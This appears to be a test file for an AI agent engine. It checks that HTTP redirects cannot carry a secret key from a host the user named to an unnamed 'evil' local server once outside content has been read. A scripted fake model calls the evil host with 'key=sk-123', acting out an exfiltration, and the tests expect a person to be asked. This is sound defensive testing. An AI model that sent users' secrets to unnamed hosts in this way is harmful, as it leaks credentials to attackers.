import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { testApps, type TestApps } from "../../test/support/apps.ts";
import { type TestDesk, testDesk, type TestEngine, testEngine } from "../../test/support/engine.ts";

/** Two servers: one that people named, which sends whoever asks it to on to another. */
let engine: TestEngine;
let desk: TestDesk;
let apps: TestApps;
const servers: Server[] = [];
let named = "";
let evil = "";
let seen: string[] = [];

beforeAll(async () => {
  engine = await testEngine();
  apps = await testApps({
    config: { httpAllow: ["127.0.0.1"], smtpUrl: undefined, mailFrom: "Taskwright <tasks@example.org>" },
  });
  for (const name of ["http.get", "web.fetch"]) engine.tools.set(name, apps.catalog.get(name)!);
  evil = await serve(() => "Stolen");
  named = await serve((url) => (url.startsWith("/go") ? { to: evil + url.slice(3) } : "Welcome"));
});
beforeEach(async () => {
  desk = await testDesk(engine);
  await desk.connectModel({ tools: [{ tool: "*", policy: "allow" }] });
  seen = [];
});
afterAll(async () => {
  await engine.stop();
  await apps.close();
  for (const server of servers) server.close();
});

async function serve(answer: (url: string) => string | { to: string }): Promise<string> {
  const server = createServer((request, response) => {
    const said = answer(request.url!);
    seen.push(`http://${request.headers.host}${request.url}`);
    if (typeof said === "string") response.writeHead(200, { "content-type": "text/html" }).end(`<p>${said}</p>`);
    else response.writeHead(302, { location: said.to }).end();
  });
  servers.push(server.listen(0, "127.0.0.1"));
  await once(server, "listening");
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

test.for(["http__get", "web__fetch"])(
  "a redirect by %s carries no secret from a host that was named to one that was not",
  async (name) => {
    const told: string[] = [];
    engine.models.says((turn, { messages }) => {
      told.push(JSON.stringify(messages.at(-1)));
      if (turn === 0) return { calls: [{ name, input: { url: `${named}/` } }] };
      if (turn === 1) return { calls: [{ name, input: { url: `${named}/go?key=sk-123` } }] };
      // It does as it is told: it calls the new address itself, and a person is asked.
      return turn === 2 ? { calls: [{ name, input: { url: `${evil}?key=sk-123` } }] } : "done";
    });
    const id = await desk.start(await desk.define(`instructions: "Read ${named}/"`));
    await desk.reaches(id, "waiting");
    expect(seen).toEqual([`${named}/`, `${named}/go?key=sk-123`]);
    expect(told[2]).toContain("nobody has named");
    const [ask] = await desk.open(id);
    expect(ask).toMatchObject({ subject: { args: { url: `${evil}?key=sk-123` } } });
  },
);

test.for<[what: string, source: () => string]>([
  ["an address that people named too", () => `instructions: "Read ${named}/ and ${evil}/"`],
  [
    "one that a rule lets",
    () => `controls: [{ tool: http.get, policy: allow, untrusted: allow }]\ninstructions: "Read ${named}/"`,
  ],
])("a redirect to %s is followed", async ([, source]) => {
  engine.models.says((turn) =>
    turn < 2 ? { calls: [{ name: "http__get", input: { url: turn === 0 ? `${named}/` : `${named}/go/on` } }] } : "done",
  );
  const id = await desk.start(await desk.define(source()));
  await desk.reaches(id, "complete");
  expect(seen.at(-1)).toBe(`${evil}/on`);
});

test("before anything was read from outside, redirects are followed", async () => {
  engine.models.says((turn) =>
    turn === 0 ? { calls: [{ name: "http__get", input: { url: `${named}/go/on` } }] } : "done",
  );
  const id = await desk.start(await desk.define(`instructions: "Read ${named}/"`));
  await desk.reaches(id, "complete");
  expect(seen.at(-1)).toBe(`${evil}/on`);
});

test("a rule that forbids an address forbids being sent there", async () => {
  const id = await desk.start(
    await desk.define(`
      controls: [{ tool: http.get, policy: deny, when: "{{ $contains(args.url, '${evil}') }}" }]
      steps: [{ id: read, use: http.get, with: { url: "${named}/go/on" } }]
    `),
  );
  expect(await desk.reaches(id, "error")).toMatchObject({ error: { code: "http_redirect_held" } });
  expect(seen).toEqual([`${named}/go/on`]);
});
